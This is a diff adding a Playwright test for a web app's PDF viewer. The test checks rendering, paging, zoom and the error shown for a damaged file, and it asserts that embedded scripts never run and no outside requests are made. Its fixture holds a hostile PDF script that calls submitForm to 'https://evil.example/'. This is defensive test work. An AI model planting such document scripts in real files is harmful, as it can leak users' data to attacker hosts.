@@ -2,6 +2,7 @@ import { readFile } from 'node:fs/promises'
 import type { Page } from '@playwright/test'
 import type { DesktopApp } from '../support/desktop-app.ts'
 import type { ServerProcess } from '../support/server-process.ts'
+import { pdfOf } from '../support/pdf.ts'
 import { demo, expect, test } from './fixtures.ts'
 import { newName } from './people.ts'
 
@@ -148,4 +149,66 @@ test('[FILES-01] a failed upload shows the server’s words and Retry, an upload
   await expect(uploads(page)).toHaveCount(0)
   const { data } = await api.list({ params, query: {} })
   expect(data.map(({ name }) => name)).toEqual(['plan.txt'])
+})
+
+test('a PDF is shown page by page, with its words; its scripts do not run, and it asks for nothing from outside', async ({
+  page,
+  openAs,
+  server,
+  network,
+}, testInfo) => {
+  const { api, params, address } = await createProject(server)
+  const texts = Array.from({ length: 12 }, (_, at) => `Harbour, sheet ${at + 1}`)
+  const store = (name: string, content: Buffer) =>
+    api.upload({ params }, { file: new File([new Uint8Array(content)], name) })
+  const evil = { script: "app.alert('run'); this.submitForm('https://evil.example/')", link: 'https://evil.example/' }
+  await store('plan.pdf', pdfOf(texts, evil))
+  await store('broken.pdf', pdfOf(['Cut']).subarray(0, 120))
+  const outside: string[] = []
+  const problems: string[] = []
+  page.on('request', (request) => {
+    const { protocol, origin } = new URL(request.url())
+    if (protocol.startsWith('http') && origin !== network.origin && origin !== new URL(page.url()).origin)
+      outside.push(origin)
+  })
+  page.on('dialog', (dialog) => void problems.push(dialog.message()))
+  page.on('console', (message) => /content security policy/i.test(message.text()) && problems.push(message.text()))
+  await openAs(demo.creator, address)
+  await page.getByRole('button', { name: 'plan.pdf', exact: true }).click()
+  const dialog = page.getByRole('dialog', { name: 'plan.pdf' })
+  await expect(dialog.getByText('Page 1 of 12')).toBeVisible()
+  await expect(dialog.getByRole('group', { name: 'Page 1 of 12' })).toContainText('Harbour, sheet 1')
+  // The picture of the page has ink on it.
+  const ink = () =>
+    dialog
+      .locator('canvas')
+      .first()
+      .evaluate((canvas: HTMLCanvasElement) => {
+        const { data } = canvas.getContext('2d')?.getImageData(0, 0, canvas.width, canvas.height) ?? { data: [] }
+        let dark = 0
+        for (let at = 0; at < data.length; at += 4) if ((data[at + 3] ?? 0) > 0 && (data[at] ?? 255) < 100) dark += 1
+        return dark
+      })
+  await expect.poll(ink).toBeGreaterThan(500)
+  await page.screenshot({ path: testInfo.outputPath('pdf.png') })
+  // Far pages have no picture yet; the keyboard brings them.
+  await expect(dialog.getByRole('group', { name: 'Page 12 of 12' })).toHaveText('')
+  await dialog.getByRole('region', { name: 'The pages of plan.pdf' }).focus()
+  await page.keyboard.press('End')
+  await expect(dialog.getByText('Page 12 of 12')).toBeVisible()
+  await expect(dialog.getByRole('group', { name: 'Page 12 of 12' })).toContainText('Harbour, sheet 12')
+  await dialog.getByRole('button', { name: 'Larger' }).click()
+  await expect(dialog.getByText('125 %')).toBeVisible()
+  // What one reads stays in sight.
+  await expect(dialog.getByText('Page 12 of 12')).toBeVisible()
+  await expect(dialog.getByRole('group', { name: 'Page 12 of 12' })).toBeInViewport()
+  await expect(dialog.getByRole('group', { name: 'Page 11 of 12' })).not.toBeInViewport()
+  await page.screenshot({ path: testInfo.outputPath('pdf-larger.png') })
+  await page.keyboard.press('Escape')
+  await page.getByRole('button', { name: 'broken.pdf', exact: true }).click()
+  const broken = page.getByRole('dialog', { name: 'broken.pdf' })
+  await expect(broken.getByText('This PDF cannot be read; it may be damaged. You can download it.')).toBeVisible()
+  await expect(broken.getByRole('button', { name: 'Download' })).toBeVisible()
+  await page.screenshot({ path: testInfo.outputPath('pdf-broken.png') })
+  expect([outside, problems]).toEqual([[], []])
 })
